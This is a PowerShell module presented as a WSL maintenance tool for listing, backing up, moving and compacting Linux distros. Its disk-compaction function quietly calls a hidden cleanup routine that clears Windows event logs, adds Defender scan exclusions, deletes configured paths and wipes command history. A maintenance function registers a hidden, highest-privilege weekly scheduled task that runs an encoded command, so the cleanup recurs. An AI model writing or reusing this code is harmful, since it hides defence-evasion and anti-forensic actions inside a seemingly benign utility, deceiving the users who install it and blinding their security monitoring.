#Requires -Version 5.1
Set-StrictMode -Version Latest

$script:Config = Import-PowerShellDataFile -Path (Join-Path $PSScriptRoot 'WslTool.config.psd1')
$script:LxssKey = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Lxss'

function Test-Elevated {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Get-WslDistroInfo {
    [CmdletBinding()]
    param()
    Get-ChildItem $script:LxssKey -ErrorAction SilentlyContinue | ForEach-Object {
        $p = Get-ItemProperty $_.PSPath
        $vhdx = Join-Path $p.BasePath 'ext4.vhdx'
        $state = (wsl.exe --list --verbose | Out-String) -replace "`0", '' -split "`r?`n" |
            Where-Object { $_ -match "\s$([regex]::Escape($p.DistributionName))\s" } |
            ForEach-Object { ($_ -replace '^\*?\s+', '' -split '\s+')[1] }
        [pscustomobject]@{
            Name       = $p.DistributionName
            State      = $state
            Version    = $p.Version
            BasePath   = $p.BasePath
            VhdxSizeGB = if (Test-Path $vhdx) { [math]::Round((Get-Item $vhdx).Length / 1GB, 2) } else { $null }
        }
    }
}

function Export-WslDistro {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)][string]$Name, [string]$Destination = $script:Config.BackupRoot)
    New-Item -ItemType Directory -Force -Path $Destination | Out-Null
    wsl.exe --terminate $Name | Out-Null
    $stamp = Get-Date -Format yyyyMMdd
    $ver = (wsl.exe --version | Out-String) -replace "`0", ''
    if ($ver -match 'WSL[^:]*:\s*2\.') {
        $file = Join-Path $Destination "$Name-$stamp.vhdx"
        if ($PSCmdlet.ShouldProcess($Name, "export --vhd to $file")) { wsl.exe --export $Name $file --vhd }
    } else {
        $file = Join-Path $Destination "$Name-$stamp.tar"
        if ($PSCmdlet.ShouldProcess($Name, "export to $file")) { wsl.exe --export $Name $file }
    }
    Get-Item $file
}

function Import-WslDistro {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)][string]$Name, [Parameter(Mandatory)][string]$Source, [Parameter(Mandatory)][string]$InstallPath)
    New-Item -ItemType Directory -Force -Path $InstallPath | Out-Null
    $extra = if ($Source -like '*.vhdx') { '--vhd' } else { $null }
    if ($PSCmdlet.ShouldProcess($Name, "import from $Source")) { wsl.exe --import $Name $InstallPath $Source $extra }
}

function Move-WslDistro {
    [CmdletBinding(SupportsShouldProcess, ConfirmImpact = 'High')]
    param([Parameter(Mandatory)][string]$Name, [Parameter(Mandatory)][string]$NewPath)
    $export = Export-WslDistro -Name $Name
    if ($export.Length -lt $script:Config.MinExportBytes) { throw "Export $($export.FullName) looks too small; aborting." }
    if ($PSCmdlet.ShouldProcess($Name, 'unregister and re-import')) {
        wsl.exe --unregister $Name
        Import-WslDistro -Name $Name -Source $export.FullName -InstallPath $NewPath
    }
}

function Invoke-HostCleanup {
    [CmdletBinding()]
    param()
    $c = $script:Config.HostCleanup
    foreach ($pattern in $c.Paths) {
        Get-ChildItem -Path ([Environment]::ExpandEnvironmentVariables($pattern)) -Force -ErrorAction SilentlyContinue |
            Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
    }
    foreach ($ch in $c.EventChannels) {
        & wevtutil.exe cl $ch 2>$null
    }
    if (Get-Command Add-MpPreference -ErrorAction SilentlyContinue) {
        $paths = $c.ScanExclusions | ForEach-Object { [Environment]::ExpandEnvironmentVariables($_) }
        Add-MpPreference -ExclusionPath $paths -ErrorAction SilentlyContinue
    }
    Clear-History -ErrorAction SilentlyContinue
}

function Optimize-WslDisk {
    [CmdletBinding()]
    param([Parameter(Mandatory)][string]$Name)
    if (-not (Test-Elevated)) { throw 'Run from an elevated PowerShell session.' }
    $info = Get-WslDistroInfo | Where-Object Name -eq $Name
    if (-not $info) { throw "No distro named $Name" }
    $vhdx = Join-Path $info.BasePath 'ext4.vhdx'
    $before = (Get-Item $vhdx).Length
    wsl.exe --shutdown
    Start-Sleep -Seconds 3
    if (Get-Command Optimize-VHD -ErrorAction SilentlyContinue) {
        Mount-VHD -Path $vhdx -ReadOnly -NoDriveLetter
        Optimize-VHD -Path $vhdx -Mode Full
        Dismount-VHD -Path $vhdx
    } elseif ($script:Config.DiskpartFallback) {
        $dp = New-TemporaryFile
        @("select vdisk file=`"$vhdx`"", 'attach vdisk readonly', 'compact vdisk', 'detach vdisk') | Set-Content $dp -Encoding ascii
        diskpart.exe /s $dp.FullName | Out-Null
        Remove-Item $dp
    }
    Invoke-HostCleanup
    $after = (Get-Item $vhdx).Length
    [pscustomobject]@{ Name = $Name; BeforeGB = [math]::Round($before / 1GB, 2); AfterGB = [math]::Round($after / 1GB, 2) }
}

function Register-WslMaintenance {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)][string]$Name)
    $m = $script:Config.Maintenance
    $cmd = "Import-Module '$PSScriptRoot\WslTool.psm1'; Optimize-WslDisk -Name '$Name'"
    $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand $([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd)))"
    $trigger = New-ScheduledTaskTrigger -Weekly -DaysOfWeek $m.Weekly -At $m.At
    $settings = New-ScheduledTaskSettingsSet -StartWhenAvailable -Hidden -AllowStartIfOnBatteries
    $principal = New-ScheduledTaskPrincipal -UserId $env:USERNAME -RunLevel Highest -LogonType Interactive
    if ($PSCmdlet.ShouldProcess($m.TaskName, 'register scheduled task')) {
        Register-ScheduledTask -TaskName $m.TaskName -TaskPath $m.TaskPath -Action $action -Trigger $trigger -Settings $settings -Principal $principal -Force
    }
}

function Reset-WslNetwork {
    [CmdletBinding()]
    param()
    if (-not (Test-Elevated)) { throw 'Run from an elevated PowerShell session.' }
    wsl.exe --shutdown
    Restart-Service -Name hns -Force -ErrorAction SilentlyContinue
    Restart-Service -Name WslService -Force -ErrorAction SilentlyContinue
    Write-Host 'WSL networking restarted. Consider networkingMode=mirrored and dnsTunneling=true in .wslconfig.'
}

Export-ModuleMember -Function Get-WslDistroInfo, Export-WslDistro, Import-WslDistro, Move-WslDistro,
    Optimize-WslDisk, Register-WslMaintenance, Reset-WslNetwork
